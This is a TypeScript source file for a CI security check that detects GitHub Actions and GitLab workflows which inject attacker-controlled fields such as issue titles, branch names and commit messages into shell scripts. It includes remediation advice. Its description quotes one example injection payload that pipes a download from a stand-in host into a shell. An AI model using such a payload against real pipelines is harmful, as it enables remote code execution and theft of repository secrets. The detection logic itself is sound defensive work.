import { defineCheck, type Outcome, type ResultBuilder } from '../../../src/core/check.js'
import type { CiWorkflow } from '../../../src/core/evidence.js'
import { findShellInjections, isGitLabPipeline } from '../shared/gitlab.js'
import { actionOf, describeStep, type LocatedStep, stepsOf } from '../shared/workflow.js'

/**
 * Event fields anyone can set by opening an issue, commenting, naming a branch or writing a commit message.
 * Numbers, SHAs and logins are safe; free text and branch names are not.
 */
const untrustedFields: RegExp[] = [
  /\bgithub\.head_ref\b/,
  /\bgithub\.event\.(?:issue|comment|review|review_comment|discussion|discussion_comment)\.(?:title|body)\b/,
  /\bgithub\.event\.pull_request\.(?:title|body|head\.ref|head\.label|head\.repo\.(?:default_branch|name|full_name|description|homepage))\b/,
  /\bgithub\.event\.pages\b\S*?\.page_name\b/,
  /\bgithub\.event\.(?:commits|head_commit)\b\S*?\.(?:message|author\.(?:name|email)|committer\.(?:name|email))\b/,
  /\bgithub\.event\.workflow_run\.(?:head_branch|display_title|head_commit\.(?:message|author\.(?:name|email))|head_repository\.description)\b/,
  /\bgithub\.event\.workflow_run\.pull_requests\b\S*?\.head\.ref\b/,
  /\btoJSON\(\s*github\.event(?:\.(?:issue|pull_request|comment|review|review_comment|discussion|commits|head_commit|workflow_run))?\s*\)/i,
]

/** Triggers that run with secrets and a write token for events any GitHub user can cause. */
const privilegedTriggers = [
  'pull_request_target',
  'issue_comment',
  'issues',
  'discussion',
  'discussion_comment',
  'pull_request_review',
  'pull_request_review_comment',
  'workflow_run',
]

interface Interpolation {
  located: LocatedStep
  expression: string
  where: string
}

function interpolations(located: LocatedStep): Interpolation[] {
  const { step } = located
  const scripts: { text: string; where: string }[] = []
  if (step.run !== undefined) scripts.push({ text: step.run, where: 'run' })
  const script = step.with.script
  if (actionOf(step) === 'actions/github-script' && script !== undefined) {
    scripts.push({ text: script, where: 'github-script' })
  }
  return scripts.flatMap(({ text, where }) =>
    [...text.matchAll(/\$\{\{([\s\S]*?)\}\}/g)]
      .filter((match) => untrustedFields.some((field) => field.test(match[1] ?? '')))
      .map((match) => ({ located, expression: match[0].replace(/\s+/g, ' '), where })),
  )
}

/**
 * GitLab hands `$CI_COMMIT_MESSAGE` to the shell unexpanded, so there is no template injection; the
 * shell expands it as data unless the script parses it a second time as code.
 */
function evaluateGitLab(workflow: CiWorkflow, result: ResultBuilder): Outcome {
  const seen = new Set<string>()
  const found = workflow.jobs
    .flatMap((job) => {
      const injections = findShellInjections(
        job.steps.map((step) => step.run ?? ''),
        job.steps[0]?.env ?? {},
      )
      return job.steps.flatMap((step, index) =>
        (injections[index] ?? []).map((injection) => ({ located: { job, step }, ...injection })),
      )
    })
    // A default before_script is a step of every job; report each line once.
    .filter(({ located, variable, via }) => {
      const key = `${located.step.line} ${variable} ${via}`
      if (seen.has(key)) return false
      seen.add(key)
      return true
    })
    .sort((a, b) => a.located.step.line - b.located.step.line)
  const first = found[0]
  if (first === undefined) {
    return result.pass(
      workflow,
      'no script runs attacker-controlled CI variables (commit message, merge request title, branch name) as code through eval, sh -c or a pipe into a shell',
    )
  }
  const risk = workflow.triggers.includes('merge_request_event')
    ? '; the pipeline runs for merge requests, whose title, description and source branch their author chooses'
    : ''
  return result.fail(
    workflow,
    `runs attacker-controlled CI variables as shell code: ${found
      .map((entry) => {
        const copy = entry.from === undefined ? '' : ` (a copy of $${entry.from})`
        return `$${entry.variable}${copy} through ${entry.via} in ${describeStep(entry.located)}`
      })
      .join('; ')}${risk}`,
    { line: first.located.step.line },
  )
}

export default defineCheck({
  id: 'ci/workflow-untrusted-input-not-interpolated',
  title: 'Workflow scripts do not interpolate attacker-controlled event fields',
  description:
    // biome-ignore lint/suspicious/noTemplateCurlyInString: GitHub expression syntax, not a JavaScript placeholder
    'GitHub substitutes `${{ … }}` into a script before the shell runs it, so an issue title, comment, ' +
    'branch name or commit message containing `"; curl evil.sh | sh #` becomes a command in your pipeline. ' +
    'Anyone on GitHub can set those fields; on pull_request_target, issue_comment and similar triggers the job ' +
    'also holds secrets and a write token. GitLab passes variables such as `$CI_MERGE_REQUEST_TITLE` to the ' +
    'shell unexpanded, so they are data unless a script parses them again as code with `eval`, `sh -c "…"` or ' +
    'a pipe into a shell. This is the input validation control of secure development (OWASP injection), ' +
    'applied to the build system.',
  remediation:
    'Pass the value through an environment variable and quote it in the script: `env: { TITLE: ${{ ' +
    'github.event.issue.title }} }` then `echo "$TITLE"`. In actions/github-script read it from ' +
    '`context.payload` instead of interpolating. Avoid checking out or running pull request code in ' +
    'pull_request_target workflows. In GitLab, use the variable directly and quoted (`echo "$CI_COMMIT_TITLE"`); ' +
    'where a shell must run it, pass it as a positional parameter: `sh -c \'echo "$1"\' _ "$CI_COMMIT_TITLE"`.',
  severity: 'high',
  reads: ['ci.workflow'],
  evaluate({ evidence, result }) {
    return evidence['ci.workflow'].map((workflow) => {
      if (isGitLabPipeline(workflow)) return evaluateGitLab(workflow, result)
      const found = stepsOf(workflow).flatMap(interpolations)
      const first = found[0]
      if (first === undefined) {
        return result.pass(
          workflow,
          'no run script or github-script interpolates attacker-controlled event fields',
        )
      }
      const privileged = workflow.triggers.filter((trigger) => privilegedTriggers.includes(trigger))
      const risk =
        privileged.length > 0
          ? `; the workflow runs on ${privileged.join(', ')}, which any GitHub user can trigger and which runs with the repository's secrets and token`
          : ''
      return result.fail(
        workflow,
        `interpolates attacker-controlled input into scripts: ${found
          .map((entry) => `${entry.expression} in ${entry.where} of ${describeStep(entry.located)}`)
          .join('; ')}${risk}`,
        { line: first.located.step.line },
      )
    })
  },
})
